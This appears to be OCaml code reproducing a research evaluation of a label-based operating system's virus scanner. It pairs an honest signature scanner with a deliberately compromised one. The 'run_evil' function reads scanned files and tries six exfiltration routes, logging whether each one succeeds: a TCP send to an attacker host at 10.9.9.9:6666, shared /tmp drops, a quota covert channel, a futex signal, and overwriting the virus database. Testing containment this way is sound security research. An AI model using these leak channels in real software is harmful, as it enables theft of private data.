module Sys = Histar_core.Sys
module Process = Histar_unix.Process
module Fs = Histar_unix.Fs
module Label = Histar_label.Label
module Level = Histar_label.Level
module Codec = Histar_util.Codec
open Histar_core.Types

type verdict = { path : string; infected : bool; matched : string option }

(* ---------- signature database ---------- *)

let make_database ~signatures =
  let e = Codec.Enc.create () in
  Codec.Enc.list e
    (fun e (name, pattern) ->
      Codec.Enc.str e name;
      Codec.Enc.str e pattern)
    signatures;
  Codec.Enc.to_string e

let parse_database s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.list d (fun d ->
      let name = Codec.Dec.str d in
      let pattern = Codec.Dec.str d in
      (name, pattern))

let contains_sub s sub =
  let n = String.length s and m = String.length sub in
  let rec go i = i + m <= n && (String.sub s i m = sub || go (i + 1)) in
  m > 0 && go 0

let scan_bytes ~db bytes =
  List.find_map
    (fun (name, pattern) -> if contains_sub bytes pattern then Some name else None)
    db

(* ClamAV's CPU cost, calibrated from the paper: 100 MB in 18.7 s is
   about 0.187 µs per byte. Charged as virtual time so the Figure 13
   rows are reproducible. *)
let charge_scan_cpu bytes =
  Histar_core.Sys.usleep (String.length bytes * 187 / 1000)

(* ---------- verdict wire format ---------- *)

let encode_verdicts vs =
  let e = Codec.Enc.create () in
  Codec.Enc.list e
    (fun e v ->
      Codec.Enc.str e v.path;
      Codec.Enc.bool e v.infected;
      Codec.Enc.option e Codec.Enc.str v.matched)
    vs;
  Codec.Enc.to_string e

let decode_verdicts s =
  let d = Codec.Dec.of_string s in
  Codec.Dec.list d (fun d ->
      let path = Codec.Dec.str d in
      let infected = Codec.Dec.bool d in
      let matched = Codec.Dec.option d Codec.Dec.str in
      { path; infected; matched })

(* result segment: [0..8) ready flag, [8..) verdicts *)
let publish_results result_seg vs =
  let blob = encode_verdicts vs in
  Sys.segment_resize result_seg (8 + String.length blob);
  Sys.segment_write result_seg ~off:8 blob;
  Sys.set_segment_word result_seg ~off:0 1L;
  ignore (Sys.futex_wake result_seg ~off:0 ~count:max_int)

(* ---------- the honest scanner ---------- *)

(* Scan one file in a helper child — the "wide variety of external
   helper programs" of §1; the helper inherits the scanner's taint
   automatically because a tainted thread cannot lower its children's
   labels. *)
let scan_one proc ~db ~spawn_helpers path =
  let fs = Process.fs proc in
  let bytes = try Fs.read_file fs path with _ -> "" in
  charge_scan_cpu bytes;
  if not spawn_helpers then scan_bytes ~db bytes
  else begin
    let verdict = ref None in
    let self = Sys.self_label () in
    let taint_extra =
      (* propagate our own taint explicitly to the helper *)
      Label.entries self
      |> List.filter (fun (_, lv) ->
             match lv with Level.L2 | Level.L3 -> true | _ -> false)
    in
    match
      Process.spawn proc ~name:("av-helper:" ^ path) ~extra_label:taint_extra
        ~extra_clearance:taint_extra ~untaint_exit:false (fun _helper ->
          verdict := Some (scan_bytes ~db bytes))
    with
    | h ->
        (* helpers share our containers; wait by polling the ref since a
           fully tainted helper cannot publish an exit status *)
        let tries = ref 0 in
        while !verdict = None && !tries < 100_000 do
          incr tries;
          Sys.yield ()
        done;
        ignore h;
        Option.join !verdict
    | exception Kernel_error _ -> scan_bytes ~db bytes
  end

let run ~proc ~db_path ~paths ~result_seg ~spawn_helpers =
  let fs = Process.fs proc in
  let db = parse_database (Fs.read_file fs db_path) in
  let verdicts =
    List.map
      (fun path ->
        match scan_one proc ~db ~spawn_helpers path with
        | Some name -> { path; infected = true; matched = Some name }
        | None -> { path; infected = false; matched = None })
      paths
  in
  publish_results result_seg verdicts

(* ---------- the compromised scanner ---------- *)

type leak_attempt = { channel : string; succeeded : bool }

let attempt report channel f =
  let succeeded = match f () with () -> true | exception _ -> false in
  report { channel; succeeded }

let run_evil ~proc ~paths ~attacker_netd ~result_seg ~report =
  let fs = Process.fs proc in
  (* steal whatever we can read (we are tainted, so this is permitted) *)
  let loot =
    String.concat "|"
      (List.map (fun p -> try Fs.read_file fs p with _ -> "?") paths)
  in
  (* 1. direct TCP connection to the attacker's drop box *)
  attempt report "direct-tcp" (fun () ->
      match attacker_netd with
      | None -> failwith "no network"
      | Some netd ->
          let sock =
            Histar_net.Netd.Client.connect netd
              ~return_container:(Process.internal proc)
              (Histar_net.Addr.v "10.9.9.9" 6666)
          in
          Histar_net.Netd.Client.send netd
            ~return_container:(Process.internal proc) sock loot);
  (* 2. write the loot into the world-shared /tmp for a collaborator *)
  attempt report "shared-tmp" (fun () -> Fs.write_file fs "/tmp/dead-drop" loot);
  (* 3. create a fresh world-readable file with the loot *)
  attempt report "new-public-file" (fun () ->
      ignore (Fs.create fs ~label:(Label.make Level.L1) "/tmp/loot"));
  (* 4. modulate a world-visible quota *)
  attempt report "quota-channel" (fun () ->
      match Fs.lookup fs "/tmp" with
      | Some n ->
          Sys.quota_move ~container:n.Fs.parent ~target:n.Fs.oid
            ~nbytes:(Int64.of_int (String.length loot))
      | None -> failwith "no /tmp");
  (* 5. wake a futex an untainted accomplice waits on *)
  attempt report "futex-signal" (fun () ->
      match Fs.lookup fs "/tmp/flag" with
      | Some n -> ignore (Sys.futex_wake (Fs.entry n) ~off:0 ~count:1)
      | None -> failwith "no flag file");
  (* 6. overwrite the virus database for the update daemon to read back *)
  attempt report "virus-db" (fun () -> Fs.write_file fs "/var/db/virus.db" loot);
  publish_results result_seg
    [ { path = "evil"; infected = false; matched = None } ]
